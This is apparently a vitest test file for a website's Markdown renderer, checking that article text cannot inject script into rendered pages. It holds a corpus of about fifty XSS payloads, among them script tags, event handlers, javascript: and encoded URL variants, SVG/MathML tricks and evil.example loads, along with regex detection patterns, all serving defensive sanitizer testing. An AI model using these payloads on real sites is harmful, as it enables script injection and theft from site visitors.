import { describe, expect, it } from 'vitest';
import { inlineMarkdownProblem, renderInlineMarkdown, renderMarkdown } from './markdown';

/**
 * Script-injection attempts an article's author (or a stolen account) might write. Each must come out
 * inert: no element that runs or loads anything, no event handler, no style, no URL but http(s),
 * mailto, tel or a path.
 */
const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'text <script>alert(1)</script> more',
  '<img src=x onerror=alert(1)>',
  '![x](x" onerror="alert(1))',
  '![x](javascript:alert(1))',
  '<svg onload=alert(1)><circle r=10 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<style>body { background: url(javascript:alert(1)) }</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="color:red" onclick="alert(1)">click</p>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  // A decimal character reference for the j (written in two parts: the literal check reads "#1" as a colour).
  `[x](&${'#'}106;avascript:alert(1))`,
  '[x](&#x6A;avascript&#x3A;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]( javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!-- --><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="/pns" onmouseover="alert(1)">x</a>',
  '<a href="https://example.com" target="_blank">x</a>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '**<img src=x onerror=alert(1)>**',
  '<b onmouseover=alert(1)>bold</b>',
  '<a id="x" name="y">clobber</a>',
  '[x](//evil.example/path)',
];

/** The output's tags (escaped text such as `&lt;img onerror=...&gt;` is text, and inert). */
const tagsOf = (html: string) => (html.match(/<[^>]*>/g) ?? []).join(' ');

/** Everything in the output's tags that could run or load: what the corpus must never produce. */
const dangerous = [
  /<(script|style|iframe|object|embed|svg|math|img|form|input|button|details|base|meta|link|template|noscript|textarea|select)\b/i,
  /\son\w+\s*=/i,
  /\sstyle\s*=/i,
  /\s(src|srcset|action|formaction|xlink:href|srcdoc|data)\s*=/i,
  /href="(?!https?:|mailto:|tel:|\/|#)/i,
  /\s(id|name)\s*=/i,
];

describe('renderMarkdown', () => {
  it('renders bold, links, lists, headings, quotes, code and tables', () => {
    expect(
      renderMarkdown('Please **talk to our voice team** or see [our voice applications page](/pns/services/voice-applications).'),
    ).toBe(
      '<p>Please <strong>talk to our voice team</strong> or see <a href="/pns/services/voice-applications">our voice applications page</a>.</p>',
    );
    expect(renderMarkdown('## Steps\n\n1. one\n2. *two*\n\n> quoted\n\n`code`')).toBe(
      '<h2>Steps</h2>\n<ol>\n<li>one</li>\n<li><em>two</em></li>\n</ol>\n<blockquote>\n<p>quoted</p>\n</blockquote>\n<p><code>code</code></p>',
    );
    expect(renderMarkdown('| a | b |\n|:--|--:|\n| 1 | ~~2~~ |')).toContain('<td align="right"><del>2</del></td>');
  });

  it('starts headings at h2 (the page title is the h1) and keeps footnotes as written', () => {
    expect(renderMarkdown('# Top\n\n### Deeper')).toBe('<h2>Top</h2>\n<h3>Deeper</h3>');
    expect(renderMarkdown('Note[^1]\n\n[^1]: the note')).toBe('<p>Note[^1]</p>\n<p>[^1]: the note</p>');
  });

  it('keeps links on the site as they are and marks the others noopener noreferrer', () => {
    expect(renderMarkdown('[a](/blog) [b](#part) [c](https://example.com/x) [d](mailto:sales@example.com) [e](//evil.example)')).toBe(
      '<p><a href="/blog">a</a> <a href="#part">b</a> <a href="https://example.com/x" rel="noopener noreferrer">c</a> ' +
        '<a href="mailto:sales@example.com" rel="noopener noreferrer">d</a> <a href="//evil.example" rel="noopener noreferrer">e</a></p>',
    );
    expect(renderMarkdown('Write to sales@example.com')).toBe(
      '<p>Write to <a href="mailto:sales@example.com" rel="noopener noreferrer">sales@example.com</a></p>',
    );
  });

  it('keeps the text of a link whose address is refused, without the link', () => {
    expect(renderMarkdown('[x](javascript:alert(1)) and [y](data:text/html,hi)')).toBe('<p>x and y</p>');
  });

  it('leaves raw HTML out: its text may stay, never its elements', () => {
    expect(renderMarkdown('<b onclick="alert(1)">bold</b> text')).toBe('<p>bold text</p>');
    expect(renderMarkdown('<script>alert(1)</script>\n\nafter')).toBe('<p>after</p>');
  });

  it.each(corpus)('makes %j inert', (attack) => {
    const html = renderMarkdown(attack);
    for (const pattern of dangerous) expect(tagsOf(html), `${pattern} in ${html}`).not.toMatch(pattern);
    // What is left of a javascript: URL is text at most, never a link's address.
    expect(html).not.toMatch(/href="[^"]*(script|data):/i);
  });

  it.each(corpus)('makes %j inert as inline text too', (attack) => {
    const html = renderInlineMarkdown(attack);
    for (const pattern of dangerous) expect(tagsOf(html), `${pattern} in ${html}`).not.toMatch(pattern);
    expect(html).not.toMatch(/href="[^"]*(script|data):/i);
  });

  it('gives the same HTML for the same text (what the store keeps is reproducible)', () => {
    const text = corpus.join('\n\n');
    expect(renderMarkdown(text)).toBe(renderMarkdown(text));
  });
});

describe('inline Markdown', () => {
  it('renders one paragraph without its <p>', () => {
    expect(renderInlineMarkdown('A **bold** and [linked](/pns) *word*.')).toBe(
      'A <strong>bold</strong> and <a href="/pns">linked</a> <em>word</em>.',
    );
  });

  it('names what a text shown as one paragraph cannot hold, and shows such a text as it was written', () => {
    expect(inlineMarkdownProblem('One **paragraph**.')).toBeUndefined();
    expect(inlineMarkdownProblem('- one\n- two')).toContain('not a list');
    expect(inlineMarkdownProblem('# Title')).toContain('not a heading');
    expect(inlineMarkdownProblem('one\n\ntwo')).toContain('not several paragraphs');
    expect(renderInlineMarkdown('- <b>one</b>\n- two')).toBe('- &lt;b&gt;one&lt;/b&gt;\n- two');
  });
});
